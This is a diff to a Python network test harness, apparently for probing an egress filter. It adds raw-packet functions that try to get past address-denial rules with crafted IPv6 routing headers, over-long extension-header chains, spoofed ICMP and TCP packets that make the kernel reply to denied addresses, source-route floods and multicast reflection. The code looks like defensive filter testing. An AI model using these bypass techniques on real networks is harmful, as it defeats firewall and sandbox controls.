@@ -477,6 +477,114 @@ def flood(host, port, count, marker):
     say(sent=sent, refused=refused)
 
 
+# --- review probes ----------------------------------------------------------------
+
+def v6_srh_segleft(src, dst, denied, port, marker):
+    # SRH whose Last Entry (0) understates its segment list: 3 slots
+    # (hdrlen 6), segments_left 2, so a router visits segments[1] next.
+    segs = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (dst, denied, dst))
+    rh = struct.pack("!BBBBBBH", 17, 6, 4, 2, 0, 0, 0) + segs
+    raw6_send([ip6(src, dst, 43, rh + udp_hdr(40000, int(port), payload(marker)))], dst)
+
+
+def v6_ext7_srh(src, dst, denied, port, marker):
+    # Six destination-options headers, then an SRH naming the denied
+    # address, then UDP: the parser stops after six headers.
+    segs = socket.inet_pton(socket.AF_INET6, denied) + socket.inet_pton(socket.AF_INET6, dst)
+    rh = struct.pack("!BBBBBBH", 17, 4, 4, 1, 1, 0, 0) + segs
+    body = opts_hdr(60) * 5 + opts_hdr(43) + rh + udp_hdr(40000, int(port), payload(marker))
+    raw6_send([ip6(src, dst, 60, body)], dst)
+
+
+def icmp6_csum(src, dst, msg):
+    ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!I3xB", len(msg), 58)
+    return csum(ph + msg)
+
+
+def reflect_echo6(spoofed, dst, marker):
+    # An echo request "from" a denied address to a local address: the
+    # kernel answers it, with our payload, to the denied address.
+    body = payload(marker, 64)
+    msg = struct.pack("!BBHHH", 128, 0, 0, 0x77, 1) + body
+    c = icmp6_csum(spoofed, dst, msg)
+    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
+    raw6_send([ip6(spoofed, dst, 58, msg)], dst)
+
+
+def reflect_echo4(spoofed, dst, marker):
+    body = payload(marker, 64)
+    msg = struct.pack("!BBHHH", 8, 0, 0, 0x77, 1) + body
+    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
+    raw4_send([ip4(spoofed, dst, 1, msg)], dst)
+
+
+def reflect_rst4(spoofed, dst, dport, sport):
+    # A SYN "from" a denied address to a closed local port: the kernel
+    # answers with a RST to the denied address (seq/ack/ports carry data).
+    tcp = struct.pack("!HHIIBBHHH", int(sport), int(dport), 0x4d4b4d4b, 0, 5 << 4, 0x02, 1024, 0, 0)
+    ph = socket.inet_aton(spoofed) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
+    raw4_send([ip4(spoofed, dst, 6, tcp)], dst)
+
+
+def stream_mptcp(host, port, marker, limit):
+    real = socket.socket
+    socket.socket = lambda fam, typ: real(fam, typ, 262)
+    try:
+        stream(host, port, marker, limit)
+    finally:
+        socket.socket = real
+
+
+def revoked_flood(host, port, denied, count):
+    # Connected TCP flows to an allowed peer; then each gets an LSRR through
+    # a denied hop and sends: every segment is denied and flagged as a
+    # revoked flow, which the rate limit never holds back.
+    socks = []
+    for _ in range(int(count)):
+        try:
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.settimeout(2)
+            s.connect((host, int(port)))
+            socks.append(s)
+        except OSError as e:
+            say(error=err(e))
+            break
+    t0 = time.monotonic()
+    for s in socks:
+        try:
+            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, srr(131, denied))
+            s.setblocking(False)
+            for _ in range(3):
+                s.send(b"x" * 100)
+        except OSError:
+            pass
+    say(flood_sockets=len(socks), send_phase_ms=round((time.monotonic() - t0) * 1000))
+    time.sleep(1)
+
+
+def mcast_reply(group, port, ifaddr, spoofed, sport, marker):
+    # A UDP socket joins `group`; a raw packet "from" the denied address to
+    # the group loops back to it on the veth (not lo), so the socket may
+    # then "answer" the denied address.
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    u.bind(("0.0.0.0", int(port)))
+    mreq = socket.inet_aton(group) + socket.inet_aton(ifaddr)
+    u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
+    u.settimeout(2)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as r:
+        r.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
+        pkt = ip4(spoofed, group, 17, udp_hdr(int(sport), int(port), b"hello"))
+        attempt("raw", lambda: r.sendto(pkt, (group, 0)) and None)
+    try:
+        data, src = u.recvfrom(100)
+        say(got=src[0] + ":" + str(src[1]))
+    except OSError as e:
+        say(recv=err(e))
+    attempt("reply", lambda: u.sendto(payload(marker), (spoofed, int(sport))) and None)
+
+
 COMMANDS = {
     "udp": udp, "tcp": tcp, "mapped-udp": mapped_udp, "stream": stream,
     "steer-tcp": lambda *a: steer(socket.SOCK_STREAM, *a[:5], before=a[5] == "before"),
@@ -487,7 +595,7 @@ COMMANDS = {
     "chroot-exec": lambda root, path, *rest: chroot_exec(root, path, list(rest)),
     "sendto-unspec": sendto_unspec, "raw4": raw4, "frag4-later": frag4_later, "frag4-overlap": frag4_overlap,
     "frag4-tiny": frag4_tiny, "v6-ext": v6_ext, "v6-frag-hidden": v6_frag_hidden, "v6-srh-raw": v6_srh_raw, "af-packet": af_packet, "tfo": tfo,
-    "sendmmsg": sendmmsg, "fdpass": fdpass, "fd-create": fd_create, "flood": flood,
+    "sendmmsg": sendmmsg, "mcast-reply": mcast_reply, "v6-srh-segleft": v6_srh_segleft, "v6-ext7-srh": v6_ext7_srh, "reflect-echo6": reflect_echo6, "reflect-echo4": reflect_echo4, "reflect-rst4": reflect_rst4, "stream-mptcp": stream_mptcp, "revoked-flood": revoked_flood, "fdpass": fdpass, "fd-create": fd_create, "flood": flood,
 }
 
 
